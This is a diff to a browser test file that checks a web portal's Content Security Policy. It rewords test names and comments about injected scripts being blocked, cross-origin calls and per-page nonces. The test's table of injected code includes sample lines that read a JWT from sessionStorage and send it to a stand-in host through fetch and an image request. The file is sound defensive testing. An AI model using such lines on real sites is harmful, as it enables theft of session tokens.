@@ -14,8 +14,8 @@ const screens = [
   '/settings',
 ];
 
-test('what somebody slips into the page does not run', async ({ page, problems, settled, enter }) => {
-  // The browser says of each that it was refused.
+test('scripts that are injected into the page do not run', async ({ page, problems, settled, enter }) => {
+  // The browser reports each refusal in the console.
   problems.allow(/^console: /);
   await enter(settled.customer, '/');
   await expect(page.getByRole('heading', { level: 1, name: 'Dashboard' })).toBeVisible();
@@ -37,7 +37,7 @@ test('what somebody slips into the page does not run', async ({ page, problems, 
     'call to elsewhere': `fetch('https://ejemplo.com/?' + sessionStorage.jwtToken).then(() => { window.pwned = 1; }, () => undefined);`,
     'picture to elsewhere': `new Image().src = 'https://ejemplo.com/?' + sessionStorage.jwtToken;`,
   };
-  // What is refused by the page's policy never gets as far as here.
+  // Requests that the page's policy refuses do not arrive here.
   const sent: string[] = [];
   await page.route(
     (url) => url.origin !== productUrl() && url.protocol !== 'data:',
@@ -49,7 +49,7 @@ test('what somebody slips into the page does not run', async ({ page, problems, 
   for (const code of Object.values(tries)) {
     await page.evaluate(`(() => { try { ${code} } catch {} })()`);
   }
-  // Whatever was to run has had its turn once a call of our own is back.
+  // By the time this call is answered, a script that could run has run.
   await page.evaluate(`fetch('/api/meta').then((answer) => answer.text())`);
   expect(await page.evaluate('window.pwned')).toBeUndefined();
   expect(await page.evaluate('getComputedStyle(document.body).outlineWidth')).not.toBe('7px');
@@ -57,7 +57,7 @@ test('what somebody slips into the page does not run', async ({ page, problems, 
   expect(sent).toEqual([]);
 });
 
-test('no screen asks anything of another origin', async ({ page, settled, enter }) => {
+test('no screen calls another origin', async ({ page, settled, enter }) => {
   const foreign: string[] = [];
   page.on('request', (request) => {
     const url = request.url();
@@ -75,9 +75,9 @@ test('no screen asks anything of another origin', async ({ page, settled, enter 
   expect(foreign).toEqual([]);
 });
 
-test('the built portal names no other origin but in words', () => {
-  // Names of formats, addresses in texts of errors and examples, and the link to a support chat that a
-  // person may follow: nothing loads or calls them.
+test('the built portal names other origins in texts only', () => {
+  // Names of formats, addresses in messages and examples, and the link to a support chat: the page neither
+  // loads nor calls them.
   const words = [
     'www.w3.org',
     'schemas.openxmlformats.org',
@@ -105,7 +105,7 @@ test('the built portal names no other origin but in words', () => {
   }
 });
 
-test('each page has a nonce of its own, and policies that leave nothing open', async () => {
+test('each page has its own nonce and strict policies', async () => {
   const policies = await Promise.all(
     ['', '/', '/index.html'].map(async (path) => {
       const answer = await fetch(productUrl() + path);
